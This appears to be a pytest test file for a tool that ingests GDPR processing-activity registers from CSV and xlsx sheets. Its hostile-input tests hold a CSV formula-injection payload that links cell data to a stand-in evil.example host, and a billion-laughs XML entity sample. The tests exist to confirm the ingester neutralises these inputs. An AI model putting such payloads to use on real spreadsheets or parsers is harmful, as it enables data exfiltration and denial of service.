"""The ropa-sheet source: an existing record (ICO template, our own export, a home-made sheet) in,
processing activities out; bad and hostile files name file, row and column and change nothing."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook
from sqlmodel import select

from catalog.apply import apply_spec
from catalog.models import ProcessingActivity
from catalog.record import build_record
from catalog.specs import CatalogSpec
from catalog.store import init_catalog
from exports.workbook import write_workbook
from ingest.errors import IngestError, LocatedError
from ingest.registry import run_source
from ingest.ropa_sheet import ingest_ropa_sheet, load_ropa_sheet
from tests.factories import small_spec_data
from tests.factories import table_counts

MODULES = {"ropa-sheet": "ingest.ropa_sheet:RopaSheetSource"}


def write_csv(path: Path, rows: list[list[str]], delimiter: str = ",") -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, delimiter=delimiter).writerows(rows)
    return path


def activities(catalog) -> dict[str, ProcessingActivity]:
    with catalog.session() as session:
        return {row.id: row for row in session.exec(select(ProcessingActivity).where(ProcessingActivity.retired_run_id.is_(None))).all()}


def rejected(catalog, path: Path, **options) -> list[LocatedError]:
    before = table_counts(catalog)
    with pytest.raises(IngestError) as raised:
        ingest_ropa_sheet(catalog, path, **options)
    assert table_counts(catalog) == before
    return raised.value.errors


def messages(errors) -> str:
    return "\n".join(str(error) for error in errors)


# ---- our own ICO-layout export reads back -------------------------------------------------------


def round_trip_spec() -> dict:
    """tests.factories data with a second controller activity (our export adds the activity's name
    and id after the ICO template's columns)."""
    data = small_spec_data()
    first = data["activities"][0]
    first.update(id="sales-manage-client-contracts", name="Manage client contracts")
    for flow in data["flows"]:
        if flow.get("activity") == "client-management":
            flow["activity"] = first["id"]
    data["activities"].append({
        "id": "people-pay-staff", "name": "Pay staff", "business_function": "People", "purpose": "Pay staff\nRun payroll checks",
        "purposes": ["essential.service.payment_processing"], "data_subjects": ["employee"],
        "data_categories": ["user.financial.bank_account", "user.health_and_medical"], "lawful_basis": "legal_obligation",
        "article9_condition": "employment_social_security", "retention": "7 years", "dpia_required": True,
        "dpia_progress": "completed", "retention_policy_followed": True, "legitimate_interest": None,
        "automated_decision_making": "Payroll rules engine", "systems": ["crm"],
    })
    return data


@pytest.fixture
def exported_workbook(tmp_path) -> Path:
    """The ICO-layout workbook the project's exporter writes for round_trip_spec()."""
    source = init_catalog(f"sqlite:///{tmp_path / 'source.db'}")
    with source.session() as session:
        apply_spec(session, CatalogSpec.model_validate(round_trip_spec()), source="manifest", target="tests")
    with source.session() as session:
        record = build_record(session)
    source.dispose()
    path = tmp_path / "record.xlsx"
    write_workbook(record, path)
    return path


def test_our_own_export_reads_back_to_the_same_activities(catalog, exported_workbook):
    report = ingest_ropa_sheet(catalog, exported_workbook, actor="tester")
    assert report.source == "ropa-sheet:record" and not report.errors
    read = activities(catalog)
    expected = {a["id"]: a for a in round_trip_spec()["activities"] if a.get("role", "controller") == "controller"}
    assert set(read) == set(expected)
    for ident, original in expected.items():
        row = read[ident]
        assert (row.name, row.business_function, row.purpose_text, row.lawful_basis, row.retention, row.purposes) == (
            original["name"], original["business_function"], original["purpose"], original["lawful_basis"], original["retention"], original["purposes"],
        )
        assert set(original["data_subjects"]) <= set(row.data_subjects)
        assert set(original["data_categories"]) <= set(row.data_categories)
    payroll = read["people-pay-staff"]
    assert (payroll.article9_condition, payroll.dpia_required, payroll.dpia_progress, payroll.retention_policy_followed) == (
        "employment_social_security", True, "completed", True,
    )
    assert payroll.automated_decision_making == "Payroll rules engine"
    assert read["sales-manage-client-contracts"].automated_decision_making is None  # the export's "No"
    assert read["sales-manage-client-contracts"].data_source is None  # the export's "Collected from the data subject"
    assert read["people-pay-staff"].source_ref == "record.xlsx[Controller record]:10"  # the export sorts by id; row 9 holds the headings
    assert "recipients 'Processors: Cloudco Inc" in messages(report.warnings)

    again = ingest_ropa_sheet(catalog, exported_workbook)
    assert (again.added, again.updated, again.retired) == (0, 0, 0) and again.unchanged == report.read


def test_the_export_read_back_into_its_own_catalogue_finds_the_same_activities(tmp_path):
    """The 'Activity id' column keys the rows: nothing is added, and lists in another order are no
    conflict. Cells the record derives (what the activity's flows carry, its systems' measures) stay
    conflicts for review: the sheet cannot tell them from what was declared."""
    from catalog.models import Conflict

    data = round_trip_spec()
    next(a for a in data["activities"] if a["id"] == "people-pay-staff")["data_subjects"] = ["employee", "customer"]  # the record sorts them
    source = init_catalog(f"sqlite:///{tmp_path / 'source.db'}")
    try:
        with source.session() as session:
            apply_spec(session, CatalogSpec.model_validate(data), source="manifest", target="tests")
        with source.session() as session:
            write_workbook(build_record(session), tmp_path / "record.xlsx")
        report = ingest_ropa_sheet(source, tmp_path / "record.xlsx")
        assert (report.read, report.added, report.updated, report.retired) == (2, 0, 0, 0) and report.unchanged == 2
        with source.session() as session:
            conflicts = {(c.entity_id, c.field) for c in session.exec(select(Conflict)).all()}
        assert ("people-pay-staff", "data_subjects") not in conflicts
        assert {ident for ident, _field in conflicts} <= {"sales-manage-client-contracts", "people-pay-staff"}
    finally:
        source.dispose()


# ---- home-made sheets ---------------------------------------------------------------------------

HOME_MADE = [
    ["Our record of processing", "", "", "", "", "", "", ""],
    ["Kept by the privacy team", "", "", "", "", "", "", ""],
    ["Department", "Purposes of processing", "Data subjects", "Personal data", "Lawful basis", "Retention", "Recipients", "Third countries"],
    ["Marketing", "Send the newsletter", "Customers; Prospects", "Name, Work email address, IP Address, shoe size", "Consent", "Until consent is withdrawn", "N/A", "USA, UK"],
    ["HR", "Recruitment\nShortlisting candidates", "Job applicants", "Name\nEmail", "6(1)(f) legitimate interests", "6 months", "-", "Narnia"],
    ["HR", "Recruitment", "Job Applicant", "n/a", "Contract (Art 6(1)(b))", "None", "Not applicable", ""],
    ["", "", "", "", "", "", "", ""],
    ["Finance", "", "Suppliers", "", "", "", "", ""],
]


def test_home_made_csv_with_synonym_headings(catalog, tmp_path):
    path = write_csv(tmp_path / "register.csv", HOME_MADE, delimiter=";")
    report = run_source("ropa-sheet", catalog, {"file": path}, modules=MODULES)
    read = activities(catalog)
    assert set(read) == {"marketing-send-the-newsletter", "hr-recruitment", "hr-recruitment-2"}
    newsletter = read["marketing-send-the-newsletter"]
    assert (newsletter.name, newsletter.lawful_basis, newsletter.retention) == ("Send the newsletter", "consent", "Until consent is withdrawn")
    assert newsletter.data_subjects == ["customer", "prospect"]
    assert newsletter.data_categories == ["user.name", "user.contact.work.email", "user.device.ip_address"]
    recruitment = read["hr-recruitment"]
    assert (recruitment.name, recruitment.purpose_text, recruitment.lawful_basis) == ("Recruitment", "Recruitment\nShortlisting candidates", "legitimate_interests")
    assert recruitment.data_subjects == ["job_applicant"]
    blanks = read["hr-recruitment-2"]  # N/A-style cells read as empty
    assert (blanks.data_categories, blanks.retention, blanks.lawful_basis) == ([], None, "contract")

    text = messages(report.warnings)
    assert "register.csv:4:4: column 'Personal data': 'shoe size' matches no data category key or label: not recorded" in text
    assert "register.csv:5:4: column 'Personal data': 'Email' matches no data category key or label: not recorded (did you mean 'user.contact.email'?)" in text
    assert "register.csv:4:8: column 'Third countries': transfers to US, GB are in the sheet" in text
    assert "register.csv:5:8: column 'Third countries': unknown country 'Narnia': not recorded" in text
    assert "register.csv:8:2: column 'Purposes of processing': row has no purpose: skipped" in text
    assert "column 'Recipients'" not in text  # 'N/A', '-' and 'Not applicable' are blanks

    again = ingest_ropa_sheet(catalog, path)
    assert (again.added, again.updated, again.retired) == (0, 0, 0)
    write_csv(path, HOME_MADE[:4], delimiter=";")
    shorter = ingest_ropa_sheet(catalog, path)
    assert shorter.retired == 2 and set(activities(catalog)) == {"marketing-send-the-newsletter"}


def test_headings_in_other_languages_through_a_mapping_file(catalog, tmp_path):
    path = write_csv(tmp_path / "registro.csv", [
        ["Área", "Finalidad", "Base juridique", "Conservation", "Interessierte Personen"],
        ["Ventas", "Gestión de clientes", "Contrat (art. 6.1.b)", "5 años", "Customer"],
    ])
    mapping = tmp_path / "mapping.yml"
    mapping.write_text("columns:\n  Área: business_function\n  Finalidad: purpose\n  Base juridique: lawful_basis\n  Conservation: retention\n  Interessierte Personen: data_subjects\n", encoding="utf-8")
    ingest_ropa_sheet(catalog, path, mapping=mapping)
    (row,) = activities(catalog).values()
    assert (row.id, row.name, row.lawful_basis, row.retention, row.data_subjects) == (
        "ventas-gestion-de-clientes", "Gestión de clientes", "contract", "5 años", ["customer"],
    )

    mapping.write_text("columns:\n  Finalidad: purpse\n", encoding="utf-8")
    text = messages(rejected(catalog, path, mapping=mapping))
    assert "mapping.yml:2: columns.Finalidad: unknown field 'purpse'" in text and "(did you mean 'purpose'?)" in text


def test_a_named_sheet_and_a_mistyped_one(catalog, tmp_path):
    workbook = Workbook()
    workbook.active.title = "Notes"
    workbook.active["A1"] = "nothing here"
    sheet = workbook.create_sheet("Record")
    sheet.append(["Business function", "Purpose", "Lawful basis"])
    sheet.append(["IT", "Run the helpdesk", "Legitimate interests"])
    path = tmp_path / "book.xlsx"
    workbook.save(path)
    report = ingest_ropa_sheet(catalog, path)  # found without --sheet: the first sheet with a header row
    assert set(activities(catalog)) == {"it-run-the-helpdesk"} and report.source == "ropa-sheet:book"
    assert "did you mean 'Record'" in messages(rejected(catalog, path, sheet="Recrod"))


# ---- hostile input ------------------------------------------------------------------------------


def test_formulas_are_never_evaluated(catalog, tmp_path):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Business function", "Purpose", "Retention", "Lawful basis"])
    sheet.append(["Sales", "Keep accounts", '=CONCAT("6 ", "years")', "Contract"])
    sheet.append(["Sales", '=HYPERLINK("http://evil.example", "click")', "1 year", "Consent"])
    path = tmp_path / "formulas.xlsx"
    workbook.save(path)  # openpyxl saves formulas without cached values
    report = ingest_ropa_sheet(catalog, path)
    read = activities(catalog)
    assert set(read) == {"sales-keep-accounts"} and read["sales-keep-accounts"].retention is None
    text = messages(report.warnings)
    assert "formulas.xlsx[Sheet]:2:3: formula without a saved value: read as empty, not evaluated" in text
    assert "formulas.xlsx[Sheet]:3:2: formula without a saved value" in text


def test_csv_formula_injection_is_kept_as_text(catalog, tmp_path):
    payload = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    path = write_csv(tmp_path / "inject.csv", [["Purpose", "Lawful basis", "Retention"], [payload, "Consent", "@SUM(1+1)"]])
    report = ingest_ropa_sheet(catalog, path)
    (row,) = activities(catalog).values()
    assert row.purpose_text == payload and row.name == payload and row.retention == "@SUM(1+1)"
    assert "inject.csv:2:1: column 'Purpose': cell starts like a spreadsheet formula: kept as text, never evaluated" in messages(report.warnings)


def test_xml_entities_in_a_workbook_are_refused(catalog, tmp_path):
    """A billion-laughs sheet: defusedxml stops it before any entity is expanded."""
    workbook = Workbook()
    workbook.active.append(["Purpose", "Lawful basis"])
    workbook.active.append(["Keep accounts", "Contract"])
    good = tmp_path / "good.xlsx"
    workbook.save(good)
    hostile = tmp_path / "laughs.xlsx"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(hostile, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                doctype = '<!DOCTYPE worksheet [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
                data = (doctype + data.decode().replace("Keep accounts", "&lol2;")).encode()
            target.writestr(item, data)
    text = messages(rejected(catalog, hostile))
    assert "laughs.xlsx" in text and "not a readable xlsx workbook (EntitiesForbidden" in text


def test_a_file_over_the_size_limit_is_refused_before_parsing(catalog, tmp_path):
    path = write_csv(tmp_path / "big.csv", HOME_MADE)
    assert "over the limit of 64 bytes" in messages(rejected(catalog, path, max_bytes=64))


@pytest.mark.parametrize("name, content, expected", [
    ("nothing.csv", "a,b\n1,2\n", "nothing.csv: no header row found in the first 30 rows"),
    ("latin1.csv", "Purpose,Lawful basis\nCaf\xe9 loyalty,Consent\n".encode("latin-1"), "latin1.csv:2: not UTF-8 text"),
    ("fake.xlsx", b"PK\x03\x04 not really a workbook", "fake.xlsx: not a readable xlsx workbook"),
    ("record.pdf", b"%PDF-1.7", "unsupported file type '.pdf'"),
    ("saved-as.xlsx", "Purpose;Lawful basis\nLoyalty;Consent\n", "saved-as.xlsx:1: holds CSV text, not an xlsx workbook; rename it to saved-as.csv"),
    ("old.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "old.xlsx: an Excel 97-2003 (.xls) workbook, not .xlsx; save it as .xlsx"),
    ("empty.xlsx", b"", "empty.xlsx: is empty, not an xlsx workbook"),
])
def test_unreadable_files_give_clear_errors(catalog, tmp_path, name, content, expected):
    path = tmp_path / name
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    assert expected in messages(rejected(catalog, path))


def test_a_sheet_with_only_its_header_row_is_refused_unless_allowed(catalog, tmp_path):
    path = write_csv(tmp_path / "register.csv", HOME_MADE, delimiter=";")
    ingest_ropa_sheet(catalog, path)
    write_csv(path, HOME_MADE[:3], delimiter=";")  # title rows and the header row
    [error] = rejected(catalog, path)
    assert error.message == f"nothing to ingest in {path}: no entries read, so this run would retire the 3 entries earlier ropa-sheet:register runs asserted"
    assert ingest_ropa_sheet(catalog, path, allow_empty=True).retired == 3 and activities(catalog) == {}


def test_a_directory_given_for_the_file_says_so(catalog, tmp_path):
    assert [str(e) for e in rejected(catalog, tmp_path)] == [f"{tmp_path}: is a directory; give a file"]


def test_load_without_writing_reports_rows(tmp_path):
    path = write_csv(tmp_path / "register.csv", HOME_MADE)
    spec, refs, _ = load_ropa_sheet(path)
    assert [a.id for a in spec.activities] == ["marketing-send-the-newsletter", "hr-recruitment", "hr-recruitment-2"]
    assert refs[("activities", 1)] == "register.csv:5"
